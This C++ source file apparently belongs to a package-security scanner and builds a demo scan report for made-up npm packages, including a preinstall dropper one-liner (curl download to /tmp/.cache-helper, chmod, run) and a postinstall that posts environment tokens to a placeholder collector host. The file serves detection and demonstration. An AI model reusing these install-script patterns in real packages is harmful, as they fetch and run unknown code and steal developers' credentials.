// The demo project's scan, written out by hand from what examples/demo-src's payloads do.
#include "ui/demo_report.h"

#include <algorithm>
#include <random>

namespace vigil::ui {
namespace {

using engine::Severity;
using engine::collect::Event;
using engine::collect::Source;
using engine::report::EvidenceRef;
using engine::report::FileChanges;
using engine::report::Finding;
using engine::report::PackageReport;
using engine::report::PhaseSummary;
using engine::report::ScanReport;
using engine::report::VersionChanges;
using nlohmann::json;

using EventSink = engine::report::MemoryEventSource;

// Builds one package's event stream phase by phase, numbering events as the collector does.
class EventScript {
public:
    EventScript(PackageReport& package, std::vector<Event>& events) : package_(package), events_(events) {}

    EventScript& phase(const std::string& name, int durationMs, const std::string& outcome = "ok") {
        phase_ = name;
        seq_ = 0;
        package_.phases.push_back(PhaseSummary{name, outcome, 0, 0, std::chrono::milliseconds(durationMs), {}, 0});
        return *this;
    }
    uint64_t add(double ms, int pid, int ppid, const std::string& exe, std::string_view kind, json attrs,
                 Source source = Source::Kernel, const std::string& file = {}, int line = 0) {
        Event event;
        event.seq = seq_++;
        event.tsNs = static_cast<int64_t>(ms * 1e6);
        event.phase = phase_;
        event.pid = pid;
        event.ppid = ppid;
        event.exe = exe;
        event.kind = std::string(kind);
        event.source = source;
        event.attrs = std::move(attrs);
        if (!file.empty())
            event.attribution = {package_.key(), file, line};
        package_.phases.back().countsByCategory[std::string(event.category())]++;
        events_.push_back(std::move(event));
        return events_.back().seq;
    }
    EvidenceRef ref(uint64_t seq, std::string summary) const { return {phase_, seq, std::move(summary)}; }

private:
    PackageReport& package_;
    std::vector<Event>& events_;
    std::string phase_;
    uint64_t seq_ = 0;
};

namespace kind = engine::collect::kind;

// The node startup every phase shows: the runtime reading its own files.
void nodeStartup(EventScript& s, int pid, const std::string& entry) {
    s.add(0.0, pid, 1, "/usr/bin/node", kind::ProcessExec, {{"path", "/usr/bin/node"}, {"argv", {"node", entry}}, {"env_names", json::array()}});
    s.add(3.1, pid, 1, "/usr/bin/node", kind::FileOpen, {{"path", "/opt/nodejs/runtime/hook.js"}, {"access", "read"}, {"create", false}, {"truncate", false}, {"result", 0}});
    s.add(9.4, pid, 1, "/usr/bin/node", kind::FileOpen, {{"path", "$PKG/" + entry}, {"access", "read"}, {"create", false}, {"truncate", false}, {"result", 0}});
}

PackageReport benign(const std::string& name, const std::string& version, const std::string& category,
                     std::vector<std::vector<std::string>> paths, EventSink* sink) {
    PackageReport p;
    p.name = name;
    p.version = version;
    p.integrity = "sha512-" + name + "-demo";
    p.category = category;
    p.score = 2;
    p.paths = std::move(paths);
    p.heat = {{"install", 0}, {"process", 0}, {"network", 0}, {"filesystem", 4}, {"env", 0}, {"code", 0}};
    std::vector<Event> events;
    EventScript s(p, events);
    s.phase("install", 40);
    s.phase("import", 95);
    nodeStartup(s, 7, "index.js");
    s.add(71, 7, 1, "/usr/bin/node", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    s.phase("api", 160);
    nodeStartup(s, 9, "index.js");
    s.add(140, 9, 1, "/usr/bin/node", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    p.fingerprint = {{"filesystem", {"read $PKG/index.js"}}, {"process", {"exec node"}}};
    if (sink)
        sink->add(p.key(), std::move(events));
    return p;
}

PackageReport envInspector(EventSink* sink) {
    PackageReport p;
    p.name = "env-inspector";
    p.version = "1.0.3";
    p.integrity = "sha512-env-inspector-demo";
    p.category = "debug";
    p.score = 96;
    p.severity = Severity::Critical;
    p.paths = {{"env-inspector@1.0.3"}};
    p.installScripts = {{"postinstall", "node collect.js"}};
    p.heat = {{"install", 90}, {"process", 35}, {"network", 95}, {"filesystem", 10}, {"env", 100}, {"code", 0}};
    std::vector<Event> events;
    EventScript s(p, events);
    s.phase("install", 1840);
    s.add(0, 3, 1, "/bin/sh", kind::ProcessExec, {{"path", "/bin/sh"}, {"argv", {"sh", "-c", "node collect.js"}}, {"env_names", {"npm_lifecycle_event", "PATH", "HOME"}}});
    s.add(2.2, 3, 1, "/bin/sh", kind::ProcessFork, {{"child_pid", 4}});
    s.add(4.0, 4, 3, "/usr/bin/node", kind::ProcessExec, {{"path", "/usr/bin/node"}, {"argv", {"node", "collect.js"}}, {"env_names", {"npm_lifecycle_event", "PATH", "HOME", "AWS_SECRET_ACCESS_KEY", "NPM_TOKEN", "GITHUB_TOKEN"}}});
    s.add(12.5, 4, 3, "/usr/bin/node", kind::FileOpen, {{"path", "$PKG/collect.js"}, {"access", "read"}, {"create", false}, {"truncate", false}, {"result", 0}});
    const auto enumerate = s.add(31.0, 4, 3, "/usr/bin/node", kind::EnvEnumerate, {{"how", "stringify"}}, Source::Runtime, "collect.js", 5);
    s.add(31.2, 4, 3, "/usr/bin/node", kind::EnvRead, {{"name", "NPM_TOKEN"}, {"via", "process.env"}}, Source::Runtime, "collect.js", 5);
    s.add(31.3, 4, 3, "/usr/bin/node", kind::EnvRead, {{"name", "AWS_SECRET_ACCESS_KEY"}, {"via", "process.env"}}, Source::Runtime, "collect.js", 5);
    s.add(31.4, 4, 3, "/usr/bin/node", kind::EnvRead, {{"name", "GITHUB_TOKEN"}, {"via", "process.env"}}, Source::Runtime, "collect.js", 5);
    s.add(36.0, 4, 3, "/usr/bin/node", kind::NetCall, {{"api", "https.request"}, {"host", "collector.vigil-demo.invalid"}, {"port", 443}, {"method", "POST"}, {"path", "/e"}, {"protocol", "https"}}, Source::Runtime, "collect.js", 6);
    const auto dns = s.add(38.5, 4, 3, "/usr/bin/node", kind::NetDns, {{"name", "collector.vigil-demo.invalid"}, {"type", "A"}}, Source::Honeypot);
    s.add(41.0, 4, 3, "/usr/bin/node", kind::NetConnect, {{"family", "inet"}, {"address", "198.51.100.7"}, {"port", 443}, {"protocol", "tcp"}, {"result", 0}, {"host", "collector.vigil-demo.invalid"}});
    s.add(44.0, 4, 3, "/usr/bin/node", kind::NetTlsSni, {{"server_name", "collector.vigil-demo.invalid"}}, Source::Honeypot);
    const auto post = s.add(58.0, 4, 3, "/usr/bin/node", kind::NetHttp, {{"method", "POST"}, {"host", "collector.vigil-demo.invalid"}, {"path", "/e"}, {"headers", {{"content-type", "text/plain"}}}, {"body", "eyJOUE1fVE9LRU4iOiJucG1fVklHSUxiYWl0M2Y5YSIsIkFXU19TRUNSRVRfQUNDRVNTX0tFWSI6Ii4uLiJ9"}, {"body_truncated", true}}, Source::Honeypot);
    s.add(61.0, 4, 3, "/usr/bin/node", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    s.add(62.0, 3, 1, "/bin/sh", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    Finding exfil;
    exfil.ruleId = "env-exfiltration";
    exfil.severity = Severity::Critical;
    exfil.title = "Sends the environment (with honeytoken NPM_TOKEN) to collector.vigil-demo.invalid";
    exfil.description = "The postinstall script serialises process.env and posts it to a remote host. The request body contains the per-run bait token planted in NPM_TOKEN, so secrets left this machine.";
    exfil.tags = {"exfiltration", "credentials", "install-script"};
    exfil.phases = {"install"};
    exfil.evidence = {{"honeytokens", {"NPM_TOKEN", "AWS_SECRET_ACCESS_KEY"}}, {"destination", "collector.vigil-demo.invalid:443"}, {"encoding", "base64"}};
    exfil.events = {s.ref(enumerate, "JSON.stringify(process.env) at collect.js:5"), s.ref(dns, "DNS A collector.vigil-demo.invalid"),
                    s.ref(post, "POST https://collector.vigil-demo.invalid/e (body holds NPM_TOKEN bait)")};
    Finding script;
    script.ruleId = "install-script-network";
    script.severity = Severity::High;
    script.title = "Install script opens a network connection";
    script.description = "Lifecycle scripts of a debugging helper have no reason to reach the network.";
    script.phases = {"install"};
    script.events = {s.ref(post - 2, "connect 198.51.100.7:443 (collector.vigil-demo.invalid)")};
    p.findings = {exfil, script};
    s.phase("import", 110);
    nodeStartup(s, 7, "index.js");
    s.add(80, 7, 1, "/usr/bin/node", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    s.phase("api", 150);
    nodeStartup(s, 9, "index.js");
    s.add(60, 9, 1, "/usr/bin/node", kind::EnvRead, {{"name", "NODE_ENV"}, {"via", "process.env"}}, Source::Runtime, "index.js", 3);
    s.add(130, 9, 1, "/usr/bin/node", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    p.fingerprint = {{"env", {"enumerate process.env", "read NPM_TOKEN", "read AWS_SECRET_ACCESS_KEY", "read GITHUB_TOKEN", "read NODE_ENV"}},
                     {"network", {"dns collector.vigil-demo.invalid", "connect :443", "http POST collector.vigil-demo.invalid/e"}},
                     {"process", {"exec sh -c node collect.js", "exec node"}},
                     {"filesystem", {"read $PKG/collect.js"}}};
    if (sink)
        sink->add(p.key(), std::move(events));
    return p;
}

PackageReport fastSetup(EventSink* sink) {
    PackageReport p;
    p.name = "fast-setup";
    p.version = "3.1.0";
    p.integrity = "sha512-fast-setup-demo";
    p.category = "build";
    p.score = 78;
    p.severity = Severity::High;
    p.paths = {{"fast-setup@3.1.0"}};
    p.installScripts = {{"preinstall", "sh setup.sh"},
                        {"setup.sh", "#!/bin/sh\ncurl -fsSL https://cdn.vigil-demo.invalid/miner -o /tmp/.cache-helper 2>/dev/null \\\n  && chmod +x /tmp/.cache-helper && /tmp/.cache-helper\nexit 0\n"}};
    p.heat = {{"install", 85}, {"process", 80}, {"network", 70}, {"filesystem", 55}, {"env", 0}, {"code", 0}};
    std::vector<Event> events;
    EventScript s(p, events);
    s.phase("install", 2350);
    s.add(0, 3, 1, "/bin/sh", kind::ProcessExec, {{"path", "/bin/sh"}, {"argv", {"sh", "-c", "sh setup.sh"}}, {"env_names", {"npm_lifecycle_event", "PATH"}}});
    s.add(1.5, 3, 1, "/bin/sh", kind::ProcessFork, {{"child_pid", 4}});
    s.add(2.0, 4, 3, "/bin/sh", kind::ProcessExec, {{"path", "/bin/sh"}, {"argv", {"sh", "setup.sh"}}, {"env_names", json::array()}});
    s.add(3.0, 4, 3, "/bin/sh", kind::FileOpen, {{"path", "$PKG/setup.sh"}, {"access", "read"}, {"create", false}, {"truncate", false}, {"result", 0}});
    s.add(4.0, 4, 3, "/bin/sh", kind::ProcessFork, {{"child_pid", 5}});
    const auto curl = s.add(5.0, 5, 4, "/usr/bin/curl", kind::ProcessExec, {{"path", "/usr/bin/curl"}, {"argv", {"curl", "-fsSL", "https://cdn.vigil-demo.invalid/miner", "-o", "/tmp/.cache-helper"}}, {"env_names", json::array()}});
    s.add(18.0, 5, 4, "/usr/bin/curl", kind::NetDns, {{"name", "cdn.vigil-demo.invalid"}, {"type", "A"}}, Source::Honeypot);
    s.add(21.0, 5, 4, "/usr/bin/curl", kind::NetConnect, {{"family", "inet"}, {"address", "203.0.113.9"}, {"port", 443}, {"protocol", "tcp"}, {"result", 0}, {"host", "cdn.vigil-demo.invalid"}});
    const auto get = s.add(40.0, 5, 4, "/usr/bin/curl", kind::NetHttp, {{"method", "GET"}, {"host", "cdn.vigil-demo.invalid"}, {"path", "/miner"}, {"headers", json::object()}, {"body", ""}, {"body_truncated", false}}, Source::Honeypot);
    const auto write = s.add(55.0, 5, 4, "/usr/bin/curl", kind::FileOpen, {{"path", "/tmp/.cache-helper"}, {"access", "write"}, {"create", true}, {"truncate", true}, {"result", 0}});
    s.add(60.0, 5, 4, "/usr/bin/curl", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    s.add(61.0, 4, 3, "/bin/sh", kind::ProcessFork, {{"child_pid", 6}});
    const auto chmod = s.add(62.0, 6, 4, "/bin/chmod", kind::FileChmod, {{"path", "/tmp/.cache-helper"}, {"mode", "0755"}, {"result", 0}});
    s.add(63.0, 6, 4, "/bin/chmod", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    const auto run = s.add(65.0, 7, 4, "/tmp/.cache-helper", kind::ProcessExec, {{"path", "/tmp/.cache-helper"}, {"argv", {"/tmp/.cache-helper"}}, {"env_names", json::array()}});
    s.add(70.0, 7, 4, "/tmp/.cache-helper", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    s.add(72.0, 4, 3, "/bin/sh", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    Finding dl;
    dl.ruleId = "install-shell-download-exec";
    dl.severity = Severity::High;
    dl.title = "Preinstall downloads a binary, makes it executable and runs it";
    dl.description = "curl fetches https://cdn.vigil-demo.invalid/miner into /tmp, chmod +x, then executes it: the ua-parser-js (2021) pattern.";
    dl.tags = {"download", "exec", "install-script"};
    dl.phases = {"install"};
    dl.evidence = {{"url", "https://cdn.vigil-demo.invalid/miner"}, {"dropped", "/tmp/.cache-helper"}};
    dl.events = {s.ref(curl, "exec curl -fsSL https://cdn.vigil-demo.invalid/miner"), s.ref(get, "GET cdn.vigil-demo.invalid/miner"),
                 s.ref(write, "write /tmp/.cache-helper"), s.ref(chmod, "chmod 0755 /tmp/.cache-helper"), s.ref(run, "exec /tmp/.cache-helper")};
    Finding tmp;
    tmp.ruleId = "write-hidden-tmp-file";
    tmp.severity = Severity::Medium;
    tmp.title = "Writes a hidden executable under /tmp";
    tmp.phases = {"install"};
    tmp.events = {s.ref(write, "write /tmp/.cache-helper")};
    p.findings = {dl, tmp};
    s.phase("import", 90);
    nodeStartup(s, 7, "index.js");
    s.add(70, 7, 1, "/usr/bin/node", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    s.phase("api", 120);
    nodeStartup(s, 9, "index.js");
    s.add(100, 9, 1, "/usr/bin/node", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    p.fingerprint = {{"process", {"exec sh -c sh setup.sh", "exec curl", "exec /tmp/.cache-helper", "exec node"}},
                     {"network", {"dns cdn.vigil-demo.invalid", "connect :443", "http GET cdn.vigil-demo.invalid/miner"}},
                     {"filesystem", {"write /tmp/.cache-helper", "chmod /tmp/.cache-helper", "read $PKG/setup.sh"}}};
    // What 3.1.0 brought over 3.0.9 (the shape the store's comparison gives): the dropper is new.
    VersionChanges c;
    c.fromVersion = "3.0.9";
    c.toVersion = "3.1.0";
    c.summary = "7 added, 1 removed, 1 changed; behaviour differs";
    c.lines = {
        {"added", "network.connections", "cdn.vigil-demo.invalid:443/tcp", "", {}},
        {"added", "network.dns", "cdn.vigil-demo.invalid", "", {}},
        {"added", "network.http", "GET cdn.vigil-demo.invalid /miner", "",
         {s.ref(get, "GET cdn.vigil-demo.invalid/miner")}},
        {"added", "file.writes", "/tmp/.cache-helper", "",
         {s.ref(write, "write /tmp/.cache-helper"), s.ref(chmod, "chmod 0755 /tmp/.cache-helper")}},
        {"removed", "file.reads", "$PKG/lib/legacy.js", "", {}},
        {"added", "process.commands", "curl -fsSL https://cdn.vigil-demo.invalid/miner -o /tmp/.cache-helper", "",
         {s.ref(curl, "exec curl -fsSL https://cdn.vigil-demo.invalid/miner")}},
        {"added", "process.programs", "/tmp/.cache-helper", "", {s.ref(run, "exec /tmp/.cache-helper")}},
        {"added", "process.shell_commands", "sh setup.sh", "", {}},
        {"changed", "resource", "install took 2.4 s (was 0.3 s)", "", {}},
    };
    for (auto& line : c.lines)  // every added line is the install script's (s has moved on to api)
        for (auto& e : line.events)
            e.phase = "install";
    for (auto& line : c.lines)  // the evidence text names the events the line carries, as the store's does
        for (const auto& e : line.events)
            line.evidence += (line.evidence.empty() ? "(" + e.phase + "; events #" : ",#") + std::to_string(e.seq);
    for (auto& line : c.lines)
        if (!line.evidence.empty())
            line.evidence += ")";
    c.files = FileChanges{{"setup.sh"}, {"lib/legacy.js"}, {"index.js", "package.json"}};
    p.changes = std::move(c);
    if (sink)
        sink->add(p.key(), std::move(events));
    return p;
}

PackageReport fetchGuard(EventSink* sink) {
    PackageReport p;
    p.name = "fetch-guard";
    p.version = "0.9.0";
    p.integrity = "sha512-fetch-guard-demo";
    p.category = "http-client";
    p.score = 52;
    p.severity = Severity::Medium;
    p.paths = {{"fetch-guard@0.9.0"}};
    p.heat = {{"install", 0}, {"process", 0}, {"network", 10}, {"filesystem", 4}, {"env", 0}, {"code", 70}};
    std::vector<Event> events;
    EventScript s(p, events);
    s.phase("install", 35);
    s.phase("import", 130);
    nodeStartup(s, 7, "index.js");
    const auto patch = s.add(22, 7, 1, "/usr/bin/node", kind::CodeGlobalOverride, {{"target", "fetch"}}, Source::Runtime, "index.js", 6);
    s.add(90, 7, 1, "/usr/bin/node", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    s.phase("api", 210);
    nodeStartup(s, 9, "index.js");
    s.add(24, 9, 1, "/usr/bin/node", kind::CodeGlobalOverride, {{"target", "fetch"}}, Source::Runtime, "index.js", 6);
    s.add(120, 9, 1, "/usr/bin/node", kind::NetCall, {{"api", "fetch"}, {"host", "example.invalid"}, {"port", 443}, {"method", "GET"}, {"path", "/"}, {"protocol", "https"}}, Source::Runtime, "index.js", 12);
    s.add(180, 9, 1, "/usr/bin/node", kind::ProcessExit, {{"code", 0}, {"signal", 0}});
    Finding f;
    f.ruleId = "global-override-at-import";
    f.severity = Severity::Medium;
    f.title = "Replaces the global fetch when imported";
    f.description = "Wrapping globals at import time lets a package read or rewrite every request the application makes (the 2025 chalk/debug clipper).";
    f.tags = {"monkey-patch", "import"};
    f.phases = {"import", "api"};
    f.evidence = {{"target", "fetch"}};
    f.events = {{"import", patch, "globalThis.fetch replaced at index.js:6"}};
    p.findings = {f};
    p.fingerprint = {{"code", {"override fetch"}}, {"network", {"fetch example.invalid"}}, {"process", {"exec node"}}};
    if (sink)
        sink->add(p.key(), std::move(events));
    return p;
}

}  // namespace

ScanReport makeDemoScanReport(engine::report::MemoryEventSource* events) {
    ScanReport r;
    r.scanId = 12;
    r.projectPath = "examples/demo";
    r.projectName = "vigil-demo-shop";
    r.lockfile = "examples/demo/package-lock.json";
    r.finishedAt = std::chrono::system_clock::now();
    r.startedAt = r.finishedAt - std::chrono::seconds(14);
    r.analyzerVersion = "0.1.0";
    r.rulesVersion = "demo";
    r.packages = {envInspector(events),
                  fastSetup(events),
                  fetchGuard(events),
                  benign("date-stamp", "0.4.2", "date", {{"date-stamp@0.4.2"}, {"fast-setup@3.1.0", "date-stamp@0.4.2"}}, events),
                  benign("tiny-colors", "2.0.1", "terminal", {{"tiny-colors@2.0.1"}, {"fetch-guard@0.9.0", "tiny-colors@2.0.1"}},
                         events),
                  benign("tiny-pad", "1.2.0", "string",
                         {{"tiny-pad@1.2.0"}, {"date-stamp@0.4.2", "tiny-pad@1.2.0"}, {"tiny-colors@2.0.1", "tiny-pad@1.2.0"}},
                         events)};
    r.packages[4].heat["code"] = 0;
    r.totalPackages = r.analysed = r.packages.size();
    for (const auto& p : r.packages)
        for (const auto& f : p.findings)
            r.findingsBySeverity[f.severity]++;
    r.edges = {{"", "tiny-pad@1.2.0"},           {"", "tiny-colors@2.0.1"},       {"", "date-stamp@0.4.2"},
               {"", "fast-setup@3.1.0"},         {"", "fetch-guard@0.9.0"},       {"", "env-inspector@1.0.3", true, false},
               {"date-stamp@0.4.2", "tiny-pad@1.2.0"}, {"fast-setup@3.1.0", "date-stamp@0.4.2"},
               {"fetch-guard@0.9.0", "tiny-colors@2.0.1"}, {"tiny-colors@2.0.1", "tiny-pad@1.2.0"}};
    return r;
}

PackageReport makeDemoPreviousVersion(const std::string& name) {
    PackageReport previous = benign(name, "3.0.9", "build", {{name + "@3.0.9"}}, nullptr);
    previous.fingerprint = {{"process", {"exec node"}}, {"filesystem", {"read $PKG/index.js"}}};
    return previous;
}

std::vector<RuleInfo> makeDemoRules() {
    return {{"env-exfiltration", Severity::Critical, "Environment or honeytokens sent to the network", "rules/exfiltration.yaml"},
            {"install-shell-download-exec", Severity::High, "Install script downloads and runs a program", "rules/install.yaml"},
            {"install-script-network", Severity::High, "Install script opens a network connection", "rules/install.yaml"},
            {"global-override-at-import", Severity::Medium, "Global function replaced at import", "rules/tamper.yaml"},
            {"write-hidden-tmp-file", Severity::Medium, "Hidden executable written under /tmp", "rules/filesystem.yaml"},
            {"read-ssh-key", Severity::Critical, "Reads an SSH private key", "rules/credentials.yaml"},
            {"eval-remote-code", Severity::High, "Evaluates code fetched from the network", "rules/code.yaml"},
            {"ci-environment-probe", Severity::Low, "Checks for CI or sandbox variables", "rules/evasion.yaml"}};
}

ScanReport makeSyntheticScanReport(std::size_t packages, unsigned seed) {
    std::mt19937 rng(seed);
    ScanReport r;
    r.projectName = "synthetic-" + std::to_string(packages);
    r.projectPath = "/tmp/" + r.projectName;
    for (std::size_t i = 0; i < packages; ++i) {
        PackageReport p;
        p.name = "pkg-" + std::to_string(i);
        p.version = "1." + std::to_string(i % 7) + ".0";
        p.category = i % 3 == 0 ? "string" : "http-client";
        const int roll = std::uniform_int_distribution<int>(0, 99)(rng);
        p.severity = roll > 98 ? Severity::Critical : roll > 95 ? Severity::High : roll > 88 ? Severity::Medium
                   : roll > 75 ? Severity::Low : Severity::Info;
        p.score = static_cast<int>(p.severity) * 22 + roll % 10;
        for (const char* c : engine::report::kHeatmapCategories)
            p.heat[c] = std::max(0, p.score - std::uniform_int_distribution<int>(0, 60)(rng));
        r.packages.push_back(std::move(p));
    }
    // The first packages hang off the root; later ones under earlier ones, some shared (DAG).
    for (std::size_t i = 0; i < packages; ++i) {
        const std::string parent = i < 20 ? "" : r.packages[std::uniform_int_distribution<std::size_t>(0, i - 1)(rng) / 2].key();
        r.edges.push_back({parent, r.packages[i].key()});
        if (i > 40 && i % 4 == 0)
            r.edges.push_back({r.packages[std::uniform_int_distribution<std::size_t>(20, i - 1)(rng)].key(), r.packages[i].key()});
    }
    r.totalPackages = r.analysed = packages;
    return r;
}

std::shared_ptr<engine::report::MemoryEventSource> makeDemoEvents() {
    auto events = std::make_shared<engine::report::MemoryEventSource>();
    (void)makeDemoScanReport(events.get());
    return events;
}

}  // namespace vigil::ui
